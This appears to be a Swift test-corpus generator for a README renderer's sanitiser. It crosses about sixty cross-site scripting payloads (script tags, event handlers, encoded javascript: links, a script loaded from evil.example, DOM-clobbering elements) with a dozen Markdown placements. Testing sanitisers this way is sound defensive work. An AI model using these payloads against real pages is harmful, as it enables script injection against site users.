/// A hostile corpus of our own, made of two lists: payloads that try to get something executable
/// into our page, and the places in a README where a payload can sit (a paragraph, a list item
/// after an indented fence, a table cell, a heading, a footnote…). Every payload goes into every
/// place, with a sentinel paragraph after it that must survive (issue 22: a dropped element never
/// takes the text after it).
enum HostileCorpusGenerator {
    static let sentinel = "SENTINEL-AFTER"

    /// Raw HTML and Markdown payloads. Those that open a comment, CDATA section or processing
    /// instruction hide the rest of the README on GitHub too, so they are not asked for the sentinel.
    static let payloads: [(payload: String, hidesTheRest: Bool)] = [
        ("<script>alert(1)</script>", false),
        ("<ScRiPt src=//evil.example/x.js></ScRiPt>", false),
        ("<img src=x onerror=alert(1)>", false),
        ("<img src=\"javascript:alert(1)\">", false),
        ("<img src=x:alert(1) onerror=eval(src)>", false),
        ("<svg/onload=alert(1)>", false),
        ("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", false),
        ("<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", false),
        ("<a href=\"javascript:alert(1)\">a</a>", false),
        ("<a href=\"jav&#x09;ascript:alert(1)\">a</a>", false),
        ("<a href=\"&#x6A;&#x61;vascript:alert(1)\">a</a>", false),
        ("<a href=\"  JAVASCRIPT:alert(1)\">a</a>", false),
        ("<a href=\"vbscript:msgbox(1)\">a</a>", false),
        ("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>", false),
        ("<a href=\"https://ok.example\" onmouseover=\"alert(1)\">a</a>", false),
        ("<a href=https://ok.example/ style=position:fixed>a</a>", false),
        ("<div style=\"background:url(javascript:alert(1))\">d</div>", false),
        ("<p onclick=alert(1)>p</p>", false),
        ("<details open ontoggle=alert(1)>d</details>", false),
        ("<iframe src=javascript:alert(1)></iframe>", false),
        ("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", false),
        ("<object data=javascript:alert(1)></object>", false),
        ("<embed src=javascript:alert(1)>", false),
        ("<form action=javascript:alert(1)><button>b</button></form>", false),
        ("<input autofocus onfocus=alert(1)>", false),
        ("<select onfocus=alert(1) autofocus>", false),
        ("<textarea onfocus=alert(1) autofocus>", false),
        ("<keygen autofocus onfocus=alert(1)>", false),
        ("<video><source onerror=alert(1)></video>", false),
        ("<audio src=x onerror=alert(1)>", false),
        ("<body onload=alert(1)>", false),
        ("<base href=javascript:alert(1)//>", false),
        ("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", false),
        ("<link rel=import href=data:text/html,x>", false),
        ("<style>*{background:url(javascript:alert(1))}</style>", false),
        ("<template><img src=x onerror=alert(1)></template>", false),
        ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", false),
        ("<xmp><img src=x onerror=alert(1)></xmp>", false),
        ("<table><td background=javascript:alert(1)>t</td></table>", false),
        ("<h1 id=\"csrf-token\">clobber</h1>", false),
        ("<a id=location name=cookie>clobber</a>", false),
        ("<img src=\"https://ok.example/a.png\" srcset=\"javascript:alert(1) 2x\">", false),
        ("<x onmouseover=alert(1)>x</x>", false),
        ("<sv<script>g>alert(1)</script>", false),
        ("<<img src=x onerror=alert(1)//<", false),
        ("<img \"\"\"><script>alert(1)</script>\">", false),
        ("[a](javascript:alert(1))", false),
        ("[a](JAVASCRIPT:alert(1) \"t\")", false),
        ("[a](<javascript:alert(1)>)", false),
        ("[a](java%0ascript:alert(1))", false),
        ("[a](&#x6A;avascript:alert(1))", false),
        ("[a](data:text/html,<script>alert(1)</script>)", false),
        ("![i](javascript:alert(1))", false),
        ("![i](x \"t\" onerror=\"alert(1)\")", false),
        ("[a][r]\n\n[r]: javascript:alert(1)", false),
        ("<javascript:alert(1)>", false),
        ("www.example.com/\"onmouseover=\"alert(1)", false),
        ("<!--", true),
        ("<!-- <script>alert(1)</script>", true),
        ("<![CDATA[<script>alert(1)</script>", true),
        ("<?php echo 1", true),
    ]

    /// Where a payload can sit: `P` is replaced by it.
    static let places: [String] = [
        "P",
        "Text before P text after.",
        "- item\n- P\n- last",
        "1. Build:\n   ```sh\n   make\n   ```\n2. P",
        "> quoted P",
        "| a | b |\n|---|---|\n| P | c |",
        "## Heading P",
        "**bold P** and *em*",
        "[link text P](https://ok.example)",
        "<details>\n<summary>S</summary>\n\nP\n\n</details>",
        "Note[^1].\n\n[^1]: P",
        "- [ ] task P",
    ]

    static var documents: [(name: String, markdown: String, hidesTheRest: Bool)] {
        var documents: [(name: String, markdown: String, hidesTheRest: Bool)] = []
        for (payloadIndex, entry) in payloads.enumerated() {
            for (placeIndex, place) in places.enumerated() {
                let markdown = place.replacingOccurrences(of: "P", with: entry.payload) + "\n\n" + sentinel
                documents.append(("payload \(payloadIndex) in place \(placeIndex)", markdown, entry.hidesTheRest))
            }
        }
        return documents
    }
}
